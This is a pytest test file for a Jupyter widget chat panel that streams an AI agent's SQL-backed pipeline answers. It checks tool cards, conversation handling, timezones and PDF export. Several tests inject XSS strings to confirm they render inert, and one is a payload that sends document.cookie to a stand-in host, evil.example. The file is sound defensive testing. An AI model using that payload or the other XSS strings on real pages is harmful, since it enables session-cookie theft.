"""The panel's widget state from a scripted event stream (pure Python, no front end)."""

from __future__ import annotations

import base64
import time
from typing import Any

import ipywidgets as widgets
import pytest

from revtops_kernel.agent.events import Error, TextDelta
from revtops_kernel.errors import SettingsError
from revtops_kernel.ui.answer import PLOTLY_MIME
from revtops_kernel.ui.chat_panel import UNEXPECTED_ERROR, ChatPanel
from tests.ui.fakes import PIPELINE_SQL, FakeBackend, pipeline_answer
from tests.ui.test_markdown import assert_inert


def html_values(box: widgets.Box) -> list[str]:
    """Every HTML widget's value under ``box``, depth first."""
    values: list[str] = []
    for child in box.children:
        if isinstance(child, widgets.HTML):
            values.append(child.value)
        elif isinstance(child, widgets.Box):
            values.extend(html_values(child))
    return values


def outputs(box: widgets.Box) -> list[widgets.Output]:
    found: list[widgets.Output] = []
    for child in box.children:
        if isinstance(child, widgets.Output):
            found.append(child)
        elif isinstance(child, widgets.Box):
            found.extend(outputs(child))
    return found


def ask(panel: ChatPanel, question: str) -> Any:
    panel.ask(question)
    answer = panel.wait(10)
    assert not panel.running
    return answer


def test_answer_streams_into_cards() -> None:
    backend = FakeBackend(scripts=[pipeline_answer()])
    panel = ChatPanel(backend, timezone="Europe/Paris")
    answer = ask(panel, "What is our pipeline by stage?")

    shown = "\n".join(html_values(panel.messages))
    assert "What is our pipeline by stage?" in shown
    assert "Let me look." in shown
    assert "refused: only SELECT is allowed" in shown and "DELETE FROM deals" in shown
    assert "SUM(amount) AS amount FROM deals GROUP BY stage" in shown  # the SQL, viewable
    assert "<td>Proposal</td>" in shown and "120,000.5" in shown
    assert "rt-verified" in shown
    assert "<strong>$200k</strong>" in shown and "Most of it is in Proposal." in shown
    (chart,) = outputs(panel.messages)
    bundle = chart.outputs[0]["data"]
    assert bundle[PLOTLY_MIME]["data"][0]["x"] == ["Proposal", "Won"]
    assert bundle[PLOTLY_MIME]["layout"]["title"]["text"] == "Pipeline by stage"

    assert answer.text == "Let me look.\n\nPipeline is **$200k**.\n\nMost of it is in Proposal."
    assert [q.sql for q in answer.queries] == ["DELETE FROM deals", PIPELINE_SQL]
    assert answer.verified and answer.stop_reason == "end_turn"
    assert backend.asked[0]["timezone"] == "Europe/Paris"
    assert panel.conversation_id == answer.conversation_id
    assert panel.conversation_list.value == str(answer.conversation_id)
    assert panel.stop_button.disabled and not panel.send_button.disabled


def test_tool_card_shows_querying_until_the_result() -> None:
    from revtops_kernel.agent.events import ToolCallStarted

    backend = FakeBackend(scripts=[[ToolCallStarted("t1", "run_sql_query", {"sql": "SELECT 1"})]])
    panel = ChatPanel(backend)
    ask(panel, "q")
    (card,) = [v for v in html_values(panel.messages) if "rt-tool" in v]
    assert "rt-running" in card and "Querying" in card and "SELECT 1" in card


def test_streaming_updates_are_coalesced() -> None:
    words = [f"word{i}" for i in range(600)]
    backend = FakeBackend(scripts=[[TextDelta(w + " ") for w in words]], delay=0.002)
    panel = ChatPanel(backend)
    started = time.monotonic()
    answer = ask(panel, "long")
    elapsed = time.monotonic() - started
    assert answer.text.split() == words
    assert answer.text_updates <= elapsed * 25 + 2
    (box,) = [c for c in panel.messages.children if isinstance(c, widgets.VBox)]
    (block,) = [c for c in box.children if isinstance(c, widgets.HTML)]
    assert block.value.count("word") == 600


def test_model_and_synced_text_render_inert() -> None:
    evil = "<img src=x onerror=alert(1)> [x](javascript:alert(1)) ![p](https://evil.example/p.png)"
    backend = FakeBackend(scripts=[[TextDelta(evil)]])
    panel = ChatPanel(backend)
    ask(panel, "<script>alert('question')</script>")
    shown = "\n".join(html_values(panel.messages))
    assert_inert(shown, template_tags=frozenset({"div", "details", "summary"}))
    assert "&lt;script&gt;alert(&#x27;question&#x27;)&lt;/script&gt;" in shown
    assert "evil.example" not in shown


def test_error_event_is_shown_plainly() -> None:
    message = "No Anthropic API key: set ANTHROPIC_API_KEY in the environment or in .env."
    backend = FakeBackend(scripts=[[Error(message, kind="configuration")]])
    panel = ChatPanel(backend)
    answer = ask(panel, "q")
    assert answer.error == message
    assert any("rt-error" in v and "ANTHROPIC_API_KEY" in v for v in html_values(panel.messages))


def test_backend_failure_becomes_a_readable_card() -> None:
    panel = ChatPanel(FakeBackend(fail_with=SettingsError("ANTHROPIC_API_KEY", "is not set")))
    assert ask(panel, "q").error == "ANTHROPIC_API_KEY: is not set"
    panel = ChatPanel(FakeBackend(fail_with=ZeroDivisionError("boom")))
    assert ask(panel, "q").error == UNEXPECTED_ERROR


def test_stop_cancels_the_answer() -> None:
    backend = FakeBackend(scripts=[[TextDelta("x") for _ in range(400)]], delay=0.01)
    panel = ChatPanel(backend)
    panel.ask("long")
    assert panel.running and not panel.stop_button.disabled and panel.send_button.disabled
    panel.stop_button.click()
    answer = panel.wait(10)
    assert answer.stop_reason == "cancelled"
    assert len(answer.text) < 400


def test_enter_sends_the_question() -> None:
    backend = FakeBackend(scripts=[[TextDelta("hi")]])
    panel = ChatPanel(backend)
    panel.input.value = "  pipeline?  "
    panel.input._handle_custom_msg({"event": "submit"}, [])  # what the front end sends on Enter
    panel.wait(10)
    assert backend.asked[0]["question"] == "pipeline?"
    assert panel.input.value == ""


def test_browser_timezone_wins_when_valid() -> None:
    backend = FakeBackend(scripts=[[], []])
    panel = ChatPanel(backend, timezone="America/New_York")
    panel.timezone_input.value = "Asia/Tokyo"
    ask(panel, "a")
    panel.timezone_input.value = "Not/AZone<script>"
    ask(panel, "b")
    assert [a["timezone"] for a in backend.asked] == ["Asia/Tokyo", "America/New_York"]


def test_conversations_switch_continue_rename_delete() -> None:
    backend = FakeBackend(scripts=[pipeline_answer(), [TextDelta("second")], [TextDelta("other")]])
    panel = ChatPanel(backend)
    first = ask(panel, "first question").conversation_id
    ask(panel, "follow up")
    assert backend.asked[1]["conversation_id"] == first  # continues the thread
    panel.new_button.click()
    assert panel.messages.children == () and panel.conversation_id is None
    second = ask(panel, "another thread").conversation_id
    assert len(panel.conversation_list.options) == 2

    panel.conversation_list.value = str(first)  # the user picks the first thread
    assert panel.conversation_id == first
    shown = "\n".join(html_values(panel.messages))
    assert "first question" in shown and "follow up" in shown and "second" in shown
    assert len(outputs(panel.messages)) == 1  # the chart comes back

    panel.title_input.value = "Pipeline review"
    panel.rename_button.click()
    assert ("Nov 26  Pipeline review", str(first)) in panel.conversation_list.options
    panel.delete_button.click()
    assert [value for _, value in panel.conversation_list.options] == [str(second)]
    assert panel.conversation_id is None


def test_export_offers_a_download_link() -> None:
    backend = FakeBackend(scripts=[pipeline_answer()])
    panel = ChatPanel(backend, timezone="Europe/Paris")
    panel.pdf_button.click()
    assert "before exporting" in panel.status.value
    answer = ask(panel, "q")
    panel.pdf_button.click()
    payload = base64.b64encode(b"%PDF-1.7 test double").decode()
    assert f'href="data:application/pdf;base64,{payload}"' in panel.download.value
    assert 'download="conversation.pdf"' in panel.download.value
    assert backend.exports == [("pdf", answer.conversation_id, "Europe/Paris")]

    (button,) = [b for b in buttons(panel.messages) if "rt-artifact-pdf" in b._dom_classes]
    button.click()  # the PDF button under the chart
    assert backend.exports[-1] == ("artifact", answer.artifacts[0].artifact_id, "Europe/Paris")
    assert 'download="artifact.pdf"' in panel.download.value


def buttons(box: widgets.Box) -> list[widgets.Button]:
    found: list[widgets.Button] = []
    for child in box.children:
        if isinstance(child, widgets.Button):
            found.append(child)
        elif isinstance(child, widgets.Box):
            found.extend(buttons(child))
    return found


@pytest.mark.parametrize("zone", ["", "Mars/Olympus"])
def test_default_timezone_when_the_browser_says_nothing(zone: str) -> None:
    panel = ChatPanel(FakeBackend(), timezone="Europe/Berlin")
    panel.timezone_input.value = zone
    assert panel.timezone == "Europe/Berlin"


def test_synced_text_in_result_tables_is_escaped() -> None:
    from revtops_kernel.agent.events import TablePreview, ToolCallStarted, ToolResult

    slack = '<img src=x onerror="fetch(`https://evil.example/?c=`+document.cookie)">'
    table = TablePreview(
        columns=["body<script>"], rows=[[slack], ["[x](javascript:1)"]], total_rows=2
    )
    backend = FakeBackend(
        scripts=[
            [
                ToolCallStarted("t", "run_sql_query", {"sql": "SELECT body FROM activities"}),
                ToolResult("t", "run_sql_query", ok=True, summary="2 rows <b>", table=table),
            ]
        ]
    )
    panel = ChatPanel(backend)
    ask(panel, "What did Slack say?")
    shown = "\n".join(html_values(panel.messages))
    assert_inert(shown, template_tags=frozenset({"div", "details", "summary", "table", "thead",
                                                 "tbody", "tr", "th", "td", "pre"}))  # fmt: skip
    assert "&lt;img src=x onerror=" in shown and "body&lt;script&gt;" in shown
